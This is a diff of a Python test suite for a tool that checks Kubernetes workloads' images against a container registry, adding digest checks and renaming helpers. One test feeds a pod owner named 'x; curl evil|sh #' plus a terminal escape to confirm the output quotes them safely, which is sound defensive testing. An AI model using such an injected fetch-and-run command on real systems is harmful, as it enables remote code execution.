@@ -68,11 +68,23 @@ DEFAULTS: Dict = {
 
 
 class Registry:
-    """A Reader whose images are results of zot_image_info. *asked* are the references that were read, in order."""
+    """A Reader whose images are results of zot_image_info. *asked* are the references that were read, in order.
+
+    *whole* are those of which more than the digest was read.
+    """
 
     def __init__(self, images: t.Iterable[Dict]) -> None:
         self.images = {each["reference"]: each for each in images}
         self.asked: list[str] = []
+        self.whole: list[str] = []
+
+    def parse(self, text: str) -> str:
+        return text
+
+    def digest(self, reference: str) -> str | None:
+        self.asked.append(reference)
+        found: str | None = self.images.get(reference, {}).get("digest")
+        return found
 
 
 @pytest.fixture(autouse=True)
@@ -80,7 +92,7 @@ def _no_registry(monkeypatch: pytest.MonkeyPatch) -> None:
     """Reads come from Registry, and a restart has a known time."""
 
     def look(reader: Registry, query: Dict) -> Dict:
-        reader.asked += query["images"]
+        reader.whole += query["images"]
         return {"images": [reader.images.get(text) or gone(text) for text in query["images"]]}
 
     monkeypatch.setattr(registry_state, "read_images", look)
@@ -137,7 +149,7 @@ class TestAsked:
             pytest.param(f"{APP}:latest", [f"{APP}:latest"], id="tag"),
             pytest.param(APP, [f"{APP}:latest"], id="no tag"),
             pytest.param(f"{APP}@{OTHER}", [f"{APP}@{OTHER}"], id="digest"),
-            pytest.param(f"{APP}:1@{OTHER}", [f"{APP}:1"], id="tag and digest"),
+            pytest.param(f"{APP}:1@{OTHER}", [f"{APP}:1", f"{APP}@{OTHER}"], id="tag and digest"),
             pytest.param("ghcr.io/openclaw/openclaw:latest", [], id="another registry"),
             pytest.param(f"{REGISTRY}:443/openclaw/openclaw:latest", [], id="another port"),
             pytest.param("openclaw:latest", [], id="Docker Hub"),
@@ -158,6 +170,12 @@ class TestAsked:
             f"{APP}:latest",
             f"{DATA}:latest",
         ]
+
+    def test_nothing_but_digests_where_they_are_the_same(self) -> None:
+        """A manifest that is read counts as a pull, and takes a second run of crane for its configuration."""
+        registry = Registry([image()])
+        found = info([workload()], [pod(f"{APP}@{INDEX}")], registry, released=[f"{APP}:latest"])
+        assert (found["ok"], registry.asked, registry.whole) == (True, [f"{APP}:latest"], [])
 
     def test_only_of_the_workloads_that_count(self) -> None:
         registry = Registry(CLUSTER["images"])
@@ -212,10 +230,10 @@ class TestCaptured:
         (after,) = plan(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
         assert (action(after), verdicts(after)) == ("none", ["unknown", "current", "current"])
         found = info(state["workloads"], state["pods"], CLUSTER["moved"], workloads=["deployment/openclaw"])
-        doubt, of_volume = found["unverified"]
+        text, of_volume = found["unverified"]
         assert (found["ok"], found["problems"]) == (True, [])
         assert (found["workloads"][0]["status"], "image volume workspace" in of_volume) == ("unknown", True)
-        assert doubt == (
+        assert text == (
             f"deployment/openclaw: init container sidecar was started when {REGISTRY}/openclaw/tool:latest meant"
             f" {after['images'][0]['expected'][:19]}, as it does now; it reports {OLD_INDEX[:19]}, which the registry"
             " does not have, so that digests prove nothing"
@@ -286,7 +304,7 @@ class TestSame:
         entry = one(workload(), *(pod(text) for text in running), images=registry)
         (use,) = entry["images"]
         assert use["running"] == sorted({f"{APP}@{OTHER}", f"{APP}@{INDEX}", digest(7)})
-        assert registry.asked == [f"{APP}:latest", f"{APP}@{OTHER}"]
+        assert (registry.asked, registry.whole) == ([f"{APP}:latest"], [f"{APP}:latest", f"{APP}@{OTHER}"])
         assert (entry["pods"], use["expected"]) == (5, INDEX)
 
 
@@ -501,7 +519,7 @@ class TestUnknown:
         """By what is old, also where it is not stale."""
         registry = Registry([image()])
         entry = one(workload(), pod(self.NAME, **self.KNOWN), images=registry)
-        assert (verdicts(entry), registry.asked) == (["unknown"], [f"{APP}:latest", self.NAME])
+        assert (verdicts(entry), registry.whole) == (["unknown"], [f"{APP}:latest", self.NAME])
 
     def test_an_index_that_has_lost_its_manifests_tells_nothing(self) -> None:
         lost = image(self.NAME, GONE, amd64=None)
@@ -551,7 +569,21 @@ class TestPinned:
 
     def test_a_tag_that_is_gone_does_not_matter_behind_a_digest(self) -> None:
         own = workload(container(f"{APP}:1@{OTHER}", "IfNotPresent"))
-        assert action(one(own, pod(f"{APP}@{OTHER}"), images=[gone(f"{APP}:1")])) == "none"
+        images = [gone(f"{APP}:1"), image(f"{APP}@{OTHER}", OTHER, amd64=digest(1))]
+        assert action(one(own, pod(f"{APP}@{OTHER}"), images=images)) == "none"
+
+    @pytest.mark.parametrize("text", [f"{APP}@{OTHER}", f"{APP}:latest@{OTHER}"])
+    @pytest.mark.parametrize("kind", ["Deployment", "CronJob"])
+    def test_a_digest_that_the_registry_has_lost(self, text: str, kind: str) -> None:
+        """The pods run on, but no new pod could pull it, also where the tag in front of the digest exists."""
+        own = cronjob(container(text)) if kind == "CronJob" else workload(container(text))
+        found = info([own], [] if kind == "CronJob" else [pod(f"{APP}@{OTHER}")])
+        (entry,) = found["workloads"]
+        assert (entry["status"], entry["patch"], verdicts(entry)) == ("failed", None, ["missing"])
+        reason = f"container app: {text} is pinned to a digest that is not in the registry"
+        assert found["problems"] == [
+            f"{entry['name']}: {reason}, so that no new pod can pull it: set another image",
+        ]
 
     def test_foretold_for_a_tag_that_is_published_only_then(self) -> None:
         """In check mode nobody knows the digest that it will mean, and one that it means now would be wrong."""
@@ -651,17 +683,17 @@ class TestBlocked:
         assert verdicts(entry) == ["mismatched", "missing", "missing"]
         assert (action(entry), entry["patch"]) == ("blocked", None)
         assert entry["reason"] == (
-            f"container app1: {APP}:1 is not in the registry; container app2: {APP}:2 is not in the registry:"
-            " publish it first"
+            f"container app1: {APP}:1 is not in the registry: publish it first;"
+            f" container app2: {APP}:2 is not in the registry: publish it first"
         )
         assert [use["running"] for use in entry["images"]][2:] == [[]]
 
 
 class TestSelection:
-    """Which workloads are judged."""
+    """Which workloads are assessed."""
 
     @pytest.mark.parametrize("text", ["ghcr.io/a/b:latest", "nginx:latest", f"{REGISTRY}/openclaw/UPPER:1", ""])
-    def test_an_image_of_another_registry_is_not_judged(self, text: str) -> None:
+    def test_an_image_of_another_registry_is_not_assessed(self, text: str) -> None:
         assert plan([workload(container(text))], [pod(f"{APP}@{OTHER}")]) == []
 
     def test_an_image_without_a_tag_is_the_latest(self) -> None:
@@ -678,7 +710,7 @@ class TestSelection:
             plan([workload()], workloads=["deployment/app", "deployment/none"], allow_empty=allow_empty)
 
     def test_a_thousand_pods(self) -> None:
-        """Of a hundred workloads with five images, each judged alone."""
+        """Of a hundred workloads with five images, each assessed alone."""
         workloads, pods = [], []
         for number in range(100):
             name = f"w{number}"
@@ -716,7 +748,8 @@ class TestMoving:
     def test_a_digest_stays(self) -> None:
         """As in a run without check mode."""
         own = workload(container(f"{APP}:latest@{INDEX}"))
-        assert action(one(own, pod(f"{APP}@{INDEX}"), assume_pushed=[f"{APP}:latest"])) == "none"
+        images = [image(), image(f"{APP}@{INDEX}")]
+        assert action(one(own, pod(f"{APP}@{INDEX}"), images=images, assume_pushed=[f"{APP}:latest"])) == "none"
 
     def test_what_has_no_pod_is_not_restarted(self) -> None:
         """As in a run without check mode."""
@@ -1028,15 +1061,15 @@ class TestWait:
     def test_a_registry_that_fails(
         self, clock: Clock, monkeypatch: pytest.MonkeyPatch, error_class: str, sleeps: list[int] | None
     ) -> None:
-        answers: list[t.Any] = [ZotError(error_class, "no"), {"images": [image()]}]
+        answers: list[t.Any] = [ZotError(error_class, "no"), INDEX]
 
-        def look(_reader: Registry, _query: Dict) -> t.Any:
-            answer = answers.pop(0)
-            if isinstance(answer, ZotError):
-                raise answer
-            return answer
+        def answer(_reader: Registry, _reference: str) -> t.Any:
+            found = answers.pop(0)
+            if isinstance(found, ZotError):
+                raise found
+            return found
 
-        monkeypatch.setattr(registry_state, "read_images", look)
+        monkeypatch.setattr(Registry, "digest", answer)
         if sleeps is None:
             with pytest.raises(ZotError):
                 info([], cluster=Film(self.done()), wait=True)
@@ -1100,8 +1133,15 @@ class TestNothing:
             info([workload()], label_selectors=["=web"], allow_empty=True)
 
     def test_is_allowed_before_the_first_deployment(self) -> None:
+        """The images must be in the registry, and the result says that nothing runs them."""
         found = info([], released=[f"{APP}:latest"])
         assert (found["ok"], found["workloads"], found["problems"]) == (True, [], [])
+        (text,) = found["unverified"]
+        assert text.startswith(f"{APP}:latest was released, but no selected workload uses an image of {REGISTRY}")
+        absent = info([], released=[f"{APP}:nope"])
+        assert absent["problems"] == [f"{APP}:nope was released, but it is not in the registry: publish it first"]
+        planned = info([], released=[f"{APP}:nope"], assume_pushed=[f"{APP}:nope"])
+        assert (planned["ok"], len(planned["unverified"])) == (True, 1)
 
     def test_a_namespace_that_does_not_exist_is_never_allowed(self) -> None:
         with pytest.raises(ClusterError, match="the namespace does not exist"):
@@ -1139,7 +1179,7 @@ class TestUnreadable:
         ]
 
     def test_one_kind(self) -> None:
-        """The others are judged."""
+        """The others are assessed."""
         own = workload()
         cluster = FakeCluster(own, *with_templates([own], [pod(f"{APP}@{OTHER}")]), refused=["cronjobs"])
         found = info([], cluster=cluster)
@@ -1199,8 +1239,8 @@ class TestCronJob:
         assert found["unverified"] == [f"cronjob/app: container app: its pods start later, and pull {APP}:latest then"]
 
     def test_an_image_of_the_node(self) -> None:
-        (doubt,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
-        assert doubt.endswith("its pull policy IfNotPresent takes the image of the node")
+        (text,) = info([cronjob(container(policy="IfNotPresent"))])["unverified"]
+        assert text.endswith("its pull policy IfNotPresent takes the image of the node")
 
     def test_an_image_that_is_missing(self) -> None:
         entry = one(cronjob(), images=[])
@@ -1209,7 +1249,7 @@ class TestCronJob:
     @pytest.mark.parametrize("pin", [False, True])
     def test_a_pin_follows_its_tag(self, pin: bool) -> None:
         own = cronjob(container(f"{APP}:latest@{OTHER}"))
-        entry = one(own, pin=pin)
+        entry = one(own, pin=pin, images=[image(), image(f"{APP}@{OTHER}", OTHER, amd64=digest(1))])
         assert entry["status"] == ("stale" if pin else "current")
         assert action_of_cronjob(entry) == ([{"name": "app", "image": f"{APP}:latest@{INDEX}"}] if pin else None)
 
@@ -1232,7 +1272,7 @@ def action_of_cronjob(entry: Dict) -> t.Any:
     return template["spec"]["containers"]
 
 
-def stray(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = "owner", **more: t.Any) -> Dict:
+def other_pod(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = "owner", **more: t.Any) -> Dict:
     """A pod of no Deployment, StatefulSet or DaemonSet, and of an owner if *kind* is given."""
     found = pod(running, **more)
     found["metadata"]["ownerReferences"] = [{"kind": kind, "name": name, "controller": True}] if kind else []
@@ -1240,7 +1280,7 @@ def stray(running: str = f"{APP}@{OTHER}", kind: str | None = None, name: str = 
     return found
 
 
-class TestStrays:
+class TestOtherPods:
     """Pods of other owners."""
 
     @pytest.mark.parametrize(
@@ -1254,7 +1294,7 @@ class TestStrays:
     )
     def test_stale_ones_are_reported_with_their_owner(self, kind: str | None, owner: str, is_problem: bool) -> None:
         """A Job ends by itself."""
-        found = info([workload()], [pod(f"{APP}@{INDEX}"), stray(kind=kind), stray(kind=kind, name="owner")])
+        found = info([workload()], [pod(f"{APP}@{INDEX}"), other_pod(kind=kind), other_pod(kind=kind, name="owner")])
         sentences = found["problems"] if is_problem else found["unverified"]
         assert found["ok"] is not is_problem
         (text,) = sentences
@@ -1263,10 +1303,10 @@ class TestStrays:
     @pytest.mark.parametrize(
         "other",
         [
-            pytest.param(stray(f"{APP}@{INDEX}"), id="current"),
-            pytest.param(stray(f"ghcr.io/a/b@{INDEX}"), id="by another name"),
-            pytest.param(stray(phase="Succeeded"), id="over"),
-            pytest.param(stray(ending=True), id="ending"),
+            pytest.param(other_pod(f"{APP}@{INDEX}"), id="current"),
+            pytest.param(other_pod(f"ghcr.io/a/b@{INDEX}"), id="by another name"),
+            pytest.param(other_pod(phase="Succeeded"), id="over"),
+            pytest.param(other_pod(ending=True), id="ending"),
         ],
     )
     def test_others_are_not(self, other: Dict) -> None:
@@ -1275,20 +1315,20 @@ class TestStrays:
 
     def test_another_name_of_the_same_image_is_resolved(self) -> None:
         same = image(f"{APP}@{OTHER}", OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG)
-        assert info([workload()], [stray()], [image(), same])["ok"] is True
+        assert info([workload()], [other_pod()], [image(), same])["ok"] is True
 
     def test_named_workloads_have_none(self) -> None:
-        assert info([workload()], [stray()], workloads=["deployment/app"])["ok"] is True
+        assert info([workload()], [other_pod()], workloads=["deployment/app"])["ok"] is True
 
     @pytest.mark.parametrize(("labels", "ok"), [({"app": "x"}, False), ({"app": "y"}, True)])
     def test_labels_select_them(self, labels: dict[str, str], ok: bool) -> None:
-        other = stray()
+        other = other_pod()
         other["metadata"]["labels"] = labels
         own = workload(metadata={"labels": {"app": "x"}})
         assert info([own], [other], label_selectors=["app=x"])["ok"] is ok
 
     def test_a_hostile_owner_is_quoted(self) -> None:
-        (text,) = info([workload()], [stray(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
+        (text,) = info([workload()], [other_pod(kind="x; curl evil|sh #", name="\x1b[2J")])["problems"]
         assert "the owner 'x; curl evil|sh #' '\\x1b[2J'" in text
         assert text.isprintable()
 
@@ -1301,6 +1341,7 @@ RELEASE_IMAGES = [
     image(f"{APP}:{OLD}", OTHER, amd64=digest(1)),
     image(f"{APP}:stable", OTHER, amd64=digest(1)),
     image(f"{APP}@{OTHER}", OTHER, amd64=digest(1)),
+    image(f"{APP}@{INDEX}"),
 ]
 
 
@@ -1327,6 +1368,12 @@ class TestRelease:
         found = info([own], pods, [*RELEASE_IMAGES, tool], released=RELEASED)
         assert found["ok"] is ok
         assert [text.split(" was released")[0] for text in found["problems"]] == ([] if ok else RELEASED)
+
+    def test_the_same_configurations_under_another_digest(self) -> None:
+        """An index that was written again, for example with annotations."""
+        again = image(f"{APP}:stable", OTHER, amd64=AMD_CONFIG, arm64=ARM_CONFIG)
+        own = workload(container(f"{APP}:stable"))
+        assert info([own], [pod(f"{APP}@{OTHER}")], [image(f"{APP}:{NEW}"), again], released=[f"{APP}:{NEW}"])["ok"]
 
     def test_one_workload_is_enough(self) -> None:
         own = [workload(), workload(container(f"{APP}:{OLD}"), name="other")]
@@ -1397,6 +1444,7 @@ class TestSetImage:
         assert {key: entry["undo"][key] for key in ("apiVersion", "kind", "metadata")} == {
             key: entry["patch"][key] for key in ("apiVersion", "kind", "metadata")
         }
+        assert entry["changes"] == [f"container app: {APP}:{OLD} -> {APP}:{NEW}"]
         # The patch starts the image, so that it is no problem of its own.
         assert found["problems"] == [entry["problem"]]
 
@@ -1498,7 +1546,8 @@ class TestUndo:
     """The patch that restores what was there."""
 
     def test_a_restart_has_none(self) -> None:
-        assert one(workload(), pod(f"{APP}@{OTHER}"))["undo"] is None
+        entry = one(workload(), pod(f"{APP}@{OTHER}"))
+        assert (entry["undo"], entry["changes"]) == (None, [])
 
     def test_a_pin(self) -> None:
         own = workload(
